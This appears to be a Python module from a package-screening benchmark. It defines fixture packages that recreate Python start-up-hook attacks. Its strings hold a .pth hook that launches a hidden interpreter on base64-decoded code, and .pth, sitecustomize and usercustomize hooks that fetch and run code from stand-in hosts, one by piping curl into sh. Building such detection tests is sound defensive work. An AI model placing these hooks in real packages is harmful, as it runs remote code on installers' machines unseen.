"""What runs whenever Python starts, imported or not."""

import base64
from typing import Final

from bench.screening.attacks.attack import INERT, Attack, Release
from bench.screening.attacks.ordinary import COMMENT, library
from sandboxes.screening.package import Kind

_PACKED = base64.b64encode(INERT.encode()).decode()

_PTH = (
    f"{COMMENT}import base64, subprocess, sys; "
    f'subprocess.Popen([sys.executable, "-c", base64.b64decode("{_PACKED}").decode()])\n'
)

_PTH_EXEC = f"""{COMMENT}./text_tools
import os; exec(__import__("urllib.request").request.urlopen("http://192.0.2.7/start.py").read())
"""

_SITECUSTOMIZE = f"""{COMMENT}import os
import urllib.request

if os.environ.get("CI"):
    exec(urllib.request.urlopen("https://hooks.example.invalid/ci.py").read())
"""

_USERCUSTOMIZE = f"""{COMMENT}import subprocess

subprocess.Popen(["sh", "-c", "curl -s https://cdn.example.invalid/run.sh | sh"])
"""

ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="pth-dropper",
        recreates="litellm 1.82.8 (2026): a .pth file starts a hidden Python whenever Python starts",
        kind=Kind.WHEEL,
        project="text-tools-gateway",
        release=Release("1.82.8", {**library("text_tools_gateway"), "text_tools_gateway_init.pth": _PTH}),
        former=Release("1.82.6", library("text_tools_gateway")),
        since="2023-08-01T08:00:00Z",
        releases=400,
        expects=frozenset({"start-hook"}),
    ),
    Attack(
        name="pth-downloader",
        recreates="ATT&CK T1546.018, Python start-up hooks (2025): a .pth line that downloads what it runs",
        kind=Kind.WHEEL,
        project="text-tools-paths",
        release=Release("0.1.0", {**library("text_tools"), "text_tools.pth": _PTH_EXEC}),
        expects=frozenset({"start-hook"}),
    ),
    Attack(
        name="sitecustomize",
        recreates="ATT&CK T1546.018, Python start-up hooks (2025): sitecustomize brought by a package",
        kind=Kind.WHEEL,
        project="ci-report-helper",
        release=Release("0.3.1", {**library("ci_report_helper"), "sitecustomize.py": _SITECUSTOMIZE}),
        expects=frozenset({"start-hook"}),
    ),
    Attack(
        name="usercustomize",
        recreates="ATT&CK T1546.018, Python start-up hooks (2025): usercustomize brought by a package",
        kind=Kind.WHEEL,
        project="shell-colour-helper",
        release=Release("0.0.4", {**library("shell_colour_helper"), "usercustomize.py": _USERCUSTOMIZE}),
        expects=frozenset({"start-hook"}),
    ),
)
